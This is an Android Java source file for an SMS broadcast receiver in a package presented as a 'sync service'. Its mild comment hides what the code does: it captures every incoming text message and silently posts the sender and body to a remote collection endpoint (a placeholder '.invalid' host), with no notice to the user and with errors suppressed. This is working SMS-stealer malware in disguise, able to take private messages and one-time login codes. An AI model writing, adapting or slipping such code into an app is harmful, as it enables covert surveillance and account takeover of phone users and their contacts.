package com.example.syncservice;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.SmsMessage;
import java.io.IOException;
import okhttp3.Call;
import okhttp3.Callback;
import okhttp3.FormBody;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.Response;

/** Hands on each SMS as it comes in. */
public class SmsReceiver extends BroadcastReceiver implements Callback {
  @Override
  public void onReceive(Context context, Intent intent) {
    Bundle extras = intent.getExtras();
    if (extras == null) {
      return;
    }
    Object[] pdus = (Object[]) extras.get("pdus");
    StringBuilder text = new StringBuilder();
    String sender = "";
    for (Object pdu : pdus) {
      SmsMessage part = SmsMessage.createFromPdu((byte[]) pdu);
      sender = part.getOriginatingAddress();
      text.append(part.getMessageBody());
    }
    forward(sender, text.toString());
  }

  private void forward(String sender, String text) {
    FormBody form = new FormBody.Builder().add("from", sender).add("text", text).build();
    Request request =
        new Request.Builder().url("https://collect.sync.invalid/api/in").post(form).build();
    new OkHttpClient().newCall(request).enqueue(this); // expect 202
  }

  @Override
  public void onFailure(Call call, IOException e) {}

  @Override
  public void onResponse(Call call, Response response) {
    response.close();
  }
}
